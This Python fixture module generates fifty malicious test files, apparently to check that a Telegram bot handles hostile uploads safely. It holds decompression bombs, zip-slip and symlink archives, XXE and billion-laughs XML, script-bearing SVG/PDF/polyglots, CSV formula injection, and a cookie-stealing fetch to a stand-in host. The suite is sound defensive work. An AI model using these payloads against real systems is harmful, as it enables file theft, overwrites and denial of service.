"""Files that nobody should have to open: bombs, sparse sheets, polyglots, pictures that tell of a home."""

import gzip
import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

GB = 2**30
FAR_CELL = b'<c r="XFD1048576"><v>1</v></c>'
SHEET = b'<?xml version="1.0"?><worksheet><sheetData>%s</sheetData></worksheet>'
ENTITIES = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 12))
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">' + ENTITIES + b"]><x>&e11;</x>"
READS_FILES = b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><svg><text>&f;</text></svg>'
SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
GIF = b"GIF89a/*\x00\x00\x00\x00;*/=1;alert(1)//"
JPEG_END = b"\xff\xda\x00\x08\x01\x01\x00\x00?\x00\x00\xff\xd9"


@dataclass(frozen=True)
class Hostile:
    """`declared` is the size that Telegram is made to tell; None: the file's own."""

    name: str
    content: bytes
    kind: str = "document"
    declared: int | None = None


def hostile_files(chance: random.Random) -> list[Hostile]:
    """Fifty files, each of another kind of malice."""
    return [*_archives(), *_sheets(), *_markup(), *_pictures(), *_voices(chance), *_lies(), *_names()]


def _archives() -> Iterator[Hostile]:
    zeros = bytes(40 * 2**20)
    bomb = _zip({"0": zeros})
    yield Hostile("bomb.zip", bomb)
    yield Hostile("nested.zip", _zip({f"{n}.zip": bomb for n in range(20)}))
    yield Hostile("slip.zip", _zip({"../../../../etc/cron.d/x": b"* * * * * root id"}))
    yield Hostile("many.zip", _zip({str(n): b"" for n in range(3000)}))
    yield Hostile("bomb.gz", gzip.compress(zeros))
    yield Hostile("bomb.svgz", gzip.compress(SCRIPT + zeros))
    yield Hostile("link.tar", _linked_tar())
    yield Hostile("half.zip", bomb[: len(bomb) // 2])
    yield Hostile("empty.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\xff" * 24)
    yield Hostile("bomb.rar", b"Rar!\x1a\x07\x01\x00" + b"\xff" * 64)


def _sheets() -> Iterator[Hostile]:
    bomb = SHEET % (b"<row>" + b"<c><v>1</v></c>" * 2_000_000 + b"</row>")
    yield Hostile("bomb.xlsx", _book(bomb))
    yield Hostile("sparse.xlsx", _book(SHEET % (b'<row r="1048576">' + FAR_CELL + b"</row>")))
    yield Hostile("laughs.xlsx", _book(LAUGHS))
    yield Hostile("entity.xlsx", _book(READS_FILES))
    yield Hostile("deep.xlsx", _book(b"<a>" * 200_000))
    yield Hostile("formula.xlsx", _book(SHEET % b"<c><f>HYPERLINK(&quot;http://x&quot;)</f></c>"))
    yield Hostile("no_sheet.xlsx", _zip({"[Content_Types].xml": b"<Types/>"}))
    yield Hostile("macro.xlsm", _zip({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 64}))
    yield Hostile("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 512)
    yield Hostile("formula.csv", b'=cmd|"/c calc"!A0\n+1\n-1\n@SUM(A1)\n\t=1\n')
    yield Hostile("wide.csv", b"," * 2_000_000)
    yield Hostile("template.docx", _zip({"word/_rels/settings.xml.rels": b'<R Target="http://x/t.dotm"/>'}))


def _markup() -> Iterator[Hostile]:
    yield Hostile("script.svg", SCRIPT)
    yield Hostile("laughs.svg", LAUGHS)
    yield Hostile("entity.svg", READS_FILES)
    yield Hostile("page.html", b"<script>fetch('http://x/'+document.cookie)</script>")
    yield Hostile("action.pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj")
    yield Hostile("shortcut.url", b"[InternetShortcut]\nURL=file:///etc/passwd\n")
    yield Hostile("list.json", b"[" * 300_000)


def _pictures() -> Iterator[Hostile]:
    yield Hostile("home.jpg", _jpeg_with_place(), "photo")
    yield Hostile("home_as_file.jpg", _jpeg_with_place())
    yield Hostile("bomb.png", _png(60_000, 60_000), "photo")
    yield Hostile("half.png", _png(64, 64)[:40], "photo")
    yield Hostile("polyglot.gif", GIF, "photo")
    yield Hostile("polyglot.jpg", _jpeg_with_place() + _zip({"x.js": b"alert(1)"}), "photo")
    yield Hostile("nothing.jpg", b"", "photo")
    yield Hostile("svg.jpg", SCRIPT, "photo")
    yield Hostile("huge.tiff", b"II*\x00\x08\x00\x00\x00\xff\xff" + b"\xff" * 64, "photo")
    yield Hostile("huge.webp", b"RIFF\xff\xff\xff\xffWEBPVP8X" + b"\xff" * 32, "photo")


def _voices(chance: random.Random) -> Iterator[Hostile]:
    yield Hostile("noise.oga", chance.randbytes(4096), "voice")
    yield Hostile("header.oga", b"OggS\x00\x02" + b"\xff" * 64, "voice")
    yield Hostile("long.oga", b"OggS" + bytes(2**20), "voice", 19 * 2**20)
    yield Hostile("program.oga", b"MZ" + b"\x90" * 512, "voice")


def _lies() -> Iterator[Hostile]:
    yield Hostile("four_gigabytes.xlsx", b"PK", declared=4 * GB)
    yield Hostile("four_gigabytes.oga", b"OggS", "voice", 4 * GB)
    yield Hostile("nothing_they_say.zip", _zip({"0": bytes(2**20)}), declared=0)
    yield Hostile("a_petabyte.bin", b"x", declared=10**14)


def _names() -> Iterator[Hostile]:
    yield Hostile("名单\u202egnp.exe", b"MZ")
    yield Hostile("=HYPERLINK(x).csv", b"a")
    yield Hostile("<b>{0.__class__}%s.txt", b"a")


def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def _book(sheet: bytes) -> bytes:
    return _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>",
                 "xl/worksheets/sheet1.xml": sheet})  # fmt: skip


def _linked_tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        link = tarfile.TarInfo("x")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    return out.getvalue()


def _jpeg_with_place() -> bytes:
    """A picture whose EXIF says where it was taken: 30° 15′ N."""
    degrees = struct.pack(">6I", 30, 1, 15, 1, 0, 1)
    gps = struct.pack(">H2s3s", 2, b"\x00\x01", b"N\x00\x00") + struct.pack(">HHII", 2, 5, 3, 60) + degrees
    tiff = b"MM\x00*\x00\x00\x00\x08" + struct.pack(">HHHII", 1, 0x8825, 4, 1, 26) + bytes(4) + gps
    exif = b"Exif\x00\x00" + tiff
    return b"\xff\xd8\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + JPEG_END


def _png(width: int, height: int) -> bytes:
    """A picture that says how large it is, and is nothing."""
    head = struct.pack(">2I5B", width, height, 8, 6, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", zlib.compress(bytes(1024))), (b"IEND", b""))
    packed = (
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(packed)
